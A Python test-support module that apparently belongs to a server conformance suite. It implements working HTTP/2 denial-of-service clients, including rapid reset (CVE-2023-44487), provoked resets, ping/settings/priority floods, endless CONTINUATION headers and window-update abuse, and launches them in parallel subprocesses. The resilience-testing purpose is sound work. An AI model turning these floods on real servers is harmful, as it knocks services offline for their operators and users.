"""Clients that flood a server over HTTP/2, each in a process of its own.

``python -m tests.conformance.support.attacks`` runs one by hand.
"""

from __future__ import annotations

import contextlib
import select
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager

from tests.conformance.support import http2
from tests.conformance.support.http2 import MAX_FRAME_BYTES, WINDOW_BYTES, frame, hello, message, opened

_CANCEL = struct.pack(">I", 8)
_MESSAGE_BYTES = 4 << 20
_BATCH = 200


class Flood:
    """A connection that sends as fast as the server reads, and comes again once it is closed."""

    def __init__(self, address: str) -> None:
        self._host, _, self._port = address.rpartition(":")
        self.num_connections = 0
        self._socket = self._connect()

    def _connect(self) -> socket.socket:
        self.num_connections += 1
        return socket.create_connection((self._host, int(self._port)), timeout=10)

    def send(self, data: bytes) -> bool:
        """Send; False where the server has closed the connection, which is open again then."""
        try:
            view = memoryview(data)
            poll = select.poll()
            poll.register(self._socket, select.POLLIN | select.POLLOUT)
            while view:
                events = dict(poll.poll(10_000)).get(self._socket.fileno(), 0)
                if events & ~select.POLLOUT and not self._socket.recv(1 << 16):
                    raise ConnectionResetError
                if events & select.POLLOUT:
                    view = view[self._socket.send(view[: 1 << 16]) :]
        except OSError:
            with contextlib.suppress(OSError):
                self._socket.close()
            time.sleep(0.005)
            with contextlib.suppress(OSError):
                self._socket = self._connect()
            return False
        return True


def _resetting(address: str, path: str, end_s: float, reset: Callable[[int], bytes]) -> None:
    flood = Flood(address)
    while time.monotonic() < end_s:
        flood.send(hello())
        for first in range(1, 1 << 30, 2 * _BATCH):
            streams = range(first, first + 2 * _BATCH, 2)
            data = b"".join(
                opened(path, stream) + message(bytes(1000), stream, flags=0) + reset(stream)
                for stream in streams
            )
            if not flood.send(data) or time.monotonic() > end_s:
                break


def rapid_reset(address: str, path: str, end_s: float) -> None:
    """Calls that are opened and reset at once (CVE-2023-44487)."""
    _resetting(address, path, end_s, lambda stream: frame(http2.RST_STREAM, 0, stream, _CANCEL))


def provoked_resets(address: str, path: str, end_s: float) -> None:
    """Calls that the server has to reset, because their window grows too large (CVE-2025-8671)."""
    too_much = struct.pack(">I", 0x7FFFFFFF)
    _resetting(address, path, end_s, lambda stream: frame(http2.WINDOW_UPDATE, 0, stream, too_much))


def _repeating(address: str, end_s: float, start: bytes, piece: bytes) -> None:
    flood = Flood(address)
    many = piece * max(1, (1 << 16) // len(piece))
    while time.monotonic() < end_s:
        flood.send(hello() + start)
        while time.monotonic() < end_s and flood.send(many):
            pass


def pings(address: str, _path: str, end_s: float) -> None:
    """Questions that the server has to answer."""
    _repeating(address, end_s, b"", frame(http2.PING, 0, 0, b"8 bytes!"))


def settings(address: str, _path: str, end_s: float) -> None:
    """Settings that the server has to confirm."""
    _repeating(address, end_s, b"", frame(http2.SETTINGS, 0, 0, b"\0\x03\0\0\0\x64"))


def empty_data(address: str, path: str, end_s: float) -> None:
    """Frames of a call's message that hold nothing of it."""
    _repeating(address, end_s, opened(path), frame(http2.DATA, 0, 1))


def tiny_windows(address: str, path: str, end_s: float) -> None:
    """Room of a byte each time."""
    _repeating(address, end_s, opened(path), frame(http2.WINDOW_UPDATE, 0, 1, b"\0\0\0\1"))


def priorities(address: str, _path: str, end_s: float) -> None:
    """Priorities of calls that are not open."""
    frames = [frame(http2.PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in range(1, 2001, 2)]
    _repeating(address, end_s, b"", b"".join(frames))


def window_flips(address: str, path: str, end_s: float) -> None:
    """A thousand calls whose answers find no room; then room for all, and none, again and again."""
    none, some = (struct.pack(">HI", 4, size) for size in (0, WINDOW_BYTES))
    calls = b"".join(opened(path, stream) + message(b"", stream) for stream in range(1, 2001, 2))
    start = frame(http2.SETTINGS, 0, 0, none) + calls
    _repeating(address, end_s, start, frame(http2.SETTINGS, 0, 0, some) + frame(http2.SETTINGS, 0, 0, none))


def endless_headers(address: str, path: str, end_s: float) -> None:
    """The header fields of one call, without an end."""
    start = frame(http2.HEADERS, 0, 1, http2.call(path))
    _repeating(address, end_s, start, frame(http2.CONTINUATION, 0, 1, http2.header("x-more", "a" * 1000)))


def unfinished_messages(address: str, path: str, end_s: float) -> None:
    """As many large messages at a time as one connection may open, of which no byte is the last."""
    while time.monotonic() < end_s:
        with contextlib.suppress(OSError):
            _send_unfinished(address, path, end_s)
        time.sleep(0.01)


def _send_unfinished(address: str, path: str, end_s: float) -> None:
    """Send within the windows that the server grants, as a client would."""
    windows = dict.fromkeys(range(1, 2 * 512 + 1, 2), WINDOW_BYTES)
    left = dict.fromkeys(windows, _MESSAGE_BYTES - 1)
    of_connection = WINDOW_BYTES
    with http2.RawConnection(address) as connection:
        connection.send(hello())
        for stream in windows:
            connection.send(opened(path, stream))
            connection.send(frame(http2.DATA, 0, stream, struct.pack(">BI", 0, _MESSAGE_BYTES)))
            windows[stream] -= 5
            of_connection -= 5
        frames = connection.frames()
        while time.monotonic() < end_s:
            for stream, window in windows.items():
                size = min(window, left[stream], of_connection, MAX_FRAME_BYTES)
                if size > 0:
                    connection.send(frame(http2.DATA, 0, stream, bytes(size)))
                    windows[stream] -= size
                    left[stream] -= size
                    of_connection -= size
            got = next(frames, None)
            if got is None or got.kind == http2.GOAWAY:
                return
            if got.kind == http2.WINDOW_UPDATE:
                (more,) = struct.unpack(">I", got.payload)
                if got.stream == 0:
                    of_connection += more
                elif got.stream in windows:
                    windows[got.stream] += more
            elif got.kind in (http2.RST_STREAM, http2.HEADERS) and got.stream in windows:
                left[got.stream] = 0


ATTACKS: dict[str, Callable[[str, str, float], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        provoked_resets,
        pings,
        settings,
        empty_data,
        tiny_windows,
        priorities,
        window_flips,
        endless_headers,
        unfinished_messages,
    )
}


@contextmanager
def under_attack(name: str, address: str, path: str, seconds: float, num_clients: int = 4) -> Iterator[None]:
    """Clients that attack for so long at most, or until the end of the block."""
    command = [sys.executable, "-m", "tests.conformance.support.attacks", name, address, path, str(seconds)]
    clients = [subprocess.Popen(command) for _ in range(num_clients)]
    try:
        yield
    finally:
        for client in clients:
            client.terminate()
        for client in clients:
            client.wait()


def main() -> None:
    """Attack as the command line says."""
    name, address, path, seconds = sys.argv[1:]
    ATTACKS[name](address, path, time.monotonic() + float(seconds))


if __name__ == "__main__":
    main()
